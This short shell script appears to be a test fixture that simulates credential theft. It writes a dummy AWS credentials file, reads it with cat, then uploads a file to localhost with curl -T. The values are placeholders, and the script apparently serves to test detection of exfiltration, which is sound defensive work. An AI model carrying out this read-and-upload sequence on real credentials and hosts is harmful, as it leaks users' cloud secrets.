# cat opens cloud credentials, then curl sends a file.
prepare() {
    mkdir -p /home/ana/.aws && echo k >/home/ana/.aws/credentials
}
act() {
    cat /home/ana/.aws/credentials
    curl -s -T /home/ana/c http://127.0.0.1/
}
